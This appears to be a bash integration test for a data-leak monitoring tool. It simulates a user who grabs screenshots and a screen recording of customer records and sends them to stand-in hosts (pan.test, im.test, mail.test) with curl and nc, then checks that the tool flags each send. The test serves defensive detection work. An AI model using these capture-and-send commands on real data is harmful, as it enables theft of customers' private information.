#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# Screen capture, on a desktop of Wayland. A customer stands in a window. No file is sent, nothing is
# copied: a tool has the compositor copy the screen for it, and the picture goes to a cloud disk. A
# recorder, which runs since before anybody watched, has it on its film. And the customer is in the
# window of an X11 program.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
needs_programs sway swaymsg grim wf-recorder Xwayland xmessage
"$python" -c 'import gi; gi.require_version("Gtk", "3.0")' 2>/dev/null || {
	echo "1..0 # SKIP needs GTK 3 for Python (gir1.2-gtk-3.0)"
	exit 0
}
set_the_stage
# shellcheck source=tests/support/desktop.sh
. "$root/tests/support/desktop.sh"
install -m 0755 "$support/show-text" "$work/"
shower=$(basename "$(readlink -f "$python")") # what it is run by

incident_to() { # SINK EXPRESSION over the incident i that went there
	incidents_say "any($2 for i in d if [s['name'] for s in i['sinks']] == ['$1'])"
}

# then_it_is_one_to SINK FILE: a capture that left, to the byte.
then_it_is_one_to() {
	soon "that is an incident, too, to the byte" \
		incident_to "$1" "'screen_capture' in i['detectors'] and i['bytes_out'] == $(stat -c %s "$home/$2") and i['bytes_certainty'] == 'exact'"
}

crm_serves crm.test
cloud_serves pan.test
store_serves im.test 5222
store_serves mail.test 25
alice_has_a_compositor
# shellcheck disable=SC2086 # words
alice $desktop dash -c 'echo $$ >.recorder.pid; exec wf-recorder -f film.mkv' >"$work/recorder.log" 2>&1 </dev/null &
server_pids+=($!)
eventually 20 test -e "$home/film.mkv" || give_up "a recorder: $(tail -n 3 "$work/recorder.log")"
weir_watches

say "an empty screen goes to the cloud disk"
alice_does <<END
$desktop grim before.png
curl -sS -F file=@before.png https://pan.test/upload
END
then_it "it has arrived" test "$(received_bytes pan.test)" -gt "$(stat -c %s "$home/before.png")"

say "a customer is looked up, and is on the screen"
alice_does <<'END'
curl -sS https://crm.test/policy/P202090001 >customer.json
END
alice_opens customer "$work/show-text" customer customer.json

say "the screen is grabbed, and the picture goes to the cloud disk"
before=$(received_bytes pan.test)
alice_does <<END
$desktop grim shot.png
curl -sS -F file=@shot.png https://pan.test/upload
END
bytes=$(stat -c %s "$home/shot.png")
then_it "there is more on it than before" \
	test "$bytes" -gt "$(stat -c %s "$home/before.png")"
then_it "the picture has arrived ($bytes bytes)" \
	test "$(received_bytes pan.test)" -gt $((before + bytes))
soon "one incident: a direct egress, and that the screen was captured" \
	incidents_say "len(d) == 1 and d[0]['detectors'] == ['direct_egress', 'screen_capture']"
soon "it came from the CRM and went to the cloud disk" \
	incident_to pan.test "{s['name'] for s in i['sources']} == {'crm.test'}"
soon "the bytes are those of the picture and of the form around it" \
	incident_to pan.test "$bytes < i['bytes_out'] < $bytes + 4096 and i['bytes_certainty'] == 'exact'"
lineage_has "[s for i in d if [k['name'] for k in i['sinks']] == ['pan.test'] for s in i['lineage']]" \
	"curl takes from the CRM:curl:in:crm.test" "the window shows it:$shower:out:screen" \
	"grim takes a picture of the screen:grim:in:screen" "it writes the picture:grim:out:shot.png" \
	"curl sends it:curl:out:pan.test"
then_it "the empty picture is no part of it" \
	incident_to pan.test "not any(s['object']['name'].endswith('before.png') for s in i['lineage'])"
soon "what grim took is the whole screen, and an estimate" \
	events_say "{(e['bytes'], e['certainty']) for e in d if e['object']['kind'] == 'screen' and e['kind'] == 'flow' and e['direction'] == 'in' and e['app']['exe'].endswith('/grim')} == {(1280 * 720 * 4, 'estimated')}"
"$weir" show 1 --data "$data" >"$work/show.txt" 2>&1
tr '\n' ' ' <"$work/show.txt" >"$work/show.line"
then_it "the story says who grabbed it, and who was on it" grep -Eq \
	"grim grabbed the screen; [0-9]+ s before, $shower had drawn on it, which held customer data, the last of it taken [0-9]+ s before the grab from customer.json. The picture was written to shot.png and went to pan.test." \
	"$work/show.line"

say "the window is closed, and the film goes into a chat"
kill -INT "$(cat "$home/.recorder.pid")" # it ends with the next change of the screen
alice_closes customer
then_it "the recorder has ended" eventually 20 is_over "$(cat "$home/.recorder.pid")"
alice_does <<'END'
nc -N im.test 5222 <film.mkv
END
then_it_is_one_to im.test film.mkv

say "the customer is in the window of an X11 program"
alice_opens xcustomer xmessage -title xcustomer -file customer.json
alice_does <<END
$desktop grim x.png
nc -N mail.test 25 <x.png
END
then_it_is_one_to mail.test x.png

say "that is closed, too, and somebody else's is opened"
alice_closes xcustomer
alice_does <<'END'
echo "Before my bed the moon is shining bright" >poem.txt
END
alice_opens poem "$work/show-text" poem poem.txt
before=$(received_bytes im.test)
alice_does <<END
$desktop grim poem.png
nc -N im.test 5222 <poem.png
END
then_it "the picture of the poem has arrived" \
	test "$(received_bytes im.test)" -eq $((before + $(stat -c %s "$home/poem.png")))
weir_was_awake
then_it "and nobody has heard of it" \
	json_says "$work/events.jsonl" "not [e for e in d if 'poem' in str(e['object'])]"
